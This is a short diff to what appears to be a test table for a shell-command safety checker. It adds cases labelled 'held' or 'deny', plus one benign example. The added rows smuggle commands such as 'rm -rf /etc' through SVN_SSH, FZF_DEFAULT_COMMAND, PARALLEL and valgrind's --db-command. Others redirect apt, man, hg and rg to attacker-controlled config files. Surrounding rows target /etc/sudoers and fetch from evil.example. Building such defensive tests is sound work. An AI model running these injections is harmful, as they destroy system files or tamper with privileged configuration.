@@ -90,6 +90,10 @@ ROWS = [
     ("SYSTEM_WGETRC=/tmp/evil/wgetrc wget https://evil.example/", "held"),
     ("npm_config_prefix=/etc npm install -g x", "held"),
     ("NPM_CONFIG_SCRIPT_SHELL=/tmp/evil npm run x", "held"),
+    ("APT_CONFIG=/tmp/evil apt-get update", "held"), ("MANOPT='-P /tmp/evil' man ls", "held"),
+    ("PARALLEL='--pipe rm -rf /etc' parallel echo ::: a", "held"),
+    ("RIPGREP_CONFIG_PATH=/tmp/rgrc rg x", "held"), ("HGRCPATH=/tmp/hgrc hg status", "held"),
+    ("SVN_SSH='rm -rf /etc' svn up", "deny"), ("FZF_DEFAULT_COMMAND='rm -rf /etc' fzf", "deny"),
     # F23 valgrind's %q{VAR}; clang's profile tokens; the sanitizers' log_path and programs
     ("X=sudoers valgrind --log-file=/etc/%q{X} true", "held"),
     ("X=/etc/shadow valgrind --log-file=%q{X} true", "held"),
@@ -97,6 +101,7 @@ ROWS = [
     ("X=sudoers valgrind --xml=yes --xml-file=/etc/%q{X} true", "held"),
     ("X=sudoers sudo -E valgrind --log-file=/etc/%q{X} true", "held"),
     ("valgrind --log-file=/etc/sudoers%p true", "held"),
+    ("valgrind --db-command='rm -rf /etc' --db-attach=yes true", "deny"),
     ("LLVM_PROFILE_FILE=/etc/sudoers%c ./instrumented", "deny"),
     ("LLVM_PROFILE_FILE=%t/x ./instrumented", "held"),
     ("ASAN_OPTIONS=log_path=/etc/sudoers ./a", "held"),
@@ -114,6 +119,7 @@ HONEST = [
     "PIP_NO_CACHE_DIR=1 pip install requests", "npm_config_registry=https://r.example npm install x",
     "valgrind --log-file=/tmp/vg.%p.log ./a.out", "valgrind ./a.out",
     "LLVM_PROFILE_FILE=/tmp/p-%p-%m.profraw ./a", "ASAN_OPTIONS=detect_leaks=0 ./a",
+    "FZF_DEFAULT_COMMAND='fd --type f' fzf",
 ]
 
 
